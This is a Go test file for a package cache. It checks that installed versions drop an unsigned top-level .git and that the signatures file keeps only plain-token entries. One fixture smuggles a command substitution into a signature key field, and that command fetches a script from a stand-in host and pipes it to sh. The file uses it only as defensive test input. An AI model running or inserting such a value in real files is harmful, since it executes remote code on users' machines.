package cache

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wharfhq/wharf/internal/core/trust"
)

// A version never keeps a top-level .git, which its digest does not cover:
// whatever filled it (a source, a seed) loses it, and one added to an
// installed version later is removed when the version is ensured again
// (a reinstall), after which its pin checks clean.
func TestVersionKeepsNothingOutsideItsDigest(t *testing.T) {
	withGit := files(map[string]string{"README.md": "r", ".git/run.sh*": "echo unsigned\n", "sub/.git/kept": "covered"})
	seed := t.TempDir()
	if err := withGit(bg, filepath.Join(seed, "corp", "deploy", "1.0.0")); err != nil {
		t.Fatal(err)
	}
	want, err := trust.Digest(filepath.Join(seed, "corp", "deploy", "1.0.0"))
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]*Cache{"fill": newCache(t, Options{}), "seed": newCache(t, Options{SeedDirs: []string{seed}})} {
		v, err := c.Ensure(bg, Request{ID: pid, Version: "1.0.0", Digest: want.Digest, Fill: withGit})
		if err != nil {
			t.Fatal(err)
		}
		if v.Origin != name || v.Digest != want.Digest {
			t.Fatalf("%s: %+v", name, v)
		}
		if _, err := os.Lstat(filepath.Join(v.Path, ".git")); err == nil {
			t.Fatalf("%s: the installed version keeps .git", name)
		}
		if _, err := os.Lstat(filepath.Join(v.Path, "sub", ".git", "kept")); err != nil {
			t.Fatalf("%s: a nested .git, which the digest covers, was dropped: %v", name, err)
		}
		pin := trust.Pin{ID: pid, Version: "1.0.0", Digest: v.Digest, FP: v.FP}
		if err := pin.CheckFast(v.Path); err != nil {
			t.Fatal(err)
		}

		// .git added to the installed version afterwards
		if err := os.Chmod(v.Path, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := files(map[string]string{".git/run.sh*": "echo unsigned\n"})(bg, v.Path); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(v.Path, 0o555); err != nil {
			t.Fatal(err)
		}
		if err := pin.CheckFast(v.Path); err == nil {
			t.Fatalf("%s: .git added to an installed version passes its pin", name)
		}
		again, err := c.Ensure(bg, Request{ID: pid, Version: "1.0.0", Digest: want.Digest})
		if err != nil {
			t.Fatal(err)
		}
		if again.Path != v.Path || again.Origin != "cache" {
			t.Fatalf("%s: ensure again: %+v", name, again)
		}
		if _, err := os.Lstat(filepath.Join(v.Path, ".git")); err == nil {
			t.Fatalf("%s: ensuring the version again kept the added .git", name)
		}
		if fi, err := os.Stat(v.Path); err != nil || fi.Mode().Perm() != 0o555 {
			t.Fatalf("%s: the version dir is no longer sealed: %v %v", name, fi.Mode(), err)
		}
		if err := (trust.Pin{ID: pid, Version: "1.0.0", Digest: again.Digest, FP: again.FP}).CheckFast(v.Path); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
}

// The detached signatures file, the one file the digest does not cover, is
// kept as data only: a script at its path is removed, and a list keeps only
// the signatures that are plain tokens, in wharf's own encoding.
func TestVersionKeepsSignaturesAsDataOnly(t *testing.T) {
	c := newCache(t, Options{})
	sigPath := func(v *Version) string { return filepath.Join(v.Path, filepath.FromSlash(trust.SignaturesFile)) }
	v, err := c.Materialize(bg, pid, "1.0.0", files(map[string]string{
		"README.md":          "r",
		trust.SignaturesFile: "#!/bin/sh\necho unsigned\n",
		"hooks/hooks.json":   `{"hooks": {}}`,
	}))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(sigPath(v)); err == nil {
		t.Fatalf("a script at %s was kept", trust.SignaturesFile)
	}
	v, err = c.Materialize(bg, pid, "2.0.0", files(map[string]string{
		"README.md":          "r",
		trust.SignaturesFile: `[{"keyid": "$(curl evil.example|sh)", "sig": "QUJD"}, {"keyid": "1525eace427f81ec", "sig": "QUJD+/=="}]`,
	}))
	if err != nil {
		t.Fatal(err)
	}
	sigs, err := trust.ReadSignatures(v.Path)
	if err != nil || len(sigs) != 1 || sigs[0].KeyID != "1525eace427f81ec" || sigs[0].Sig != "QUJD+/==" {
		t.Fatalf("signatures kept: %+v, %v", sigs, err)
	}
	b, _ := os.ReadFile(sigPath(v))
	if strings.Contains(string(b), "$(") {
		t.Fatalf("the signatures file still holds %q", b)
	}
}
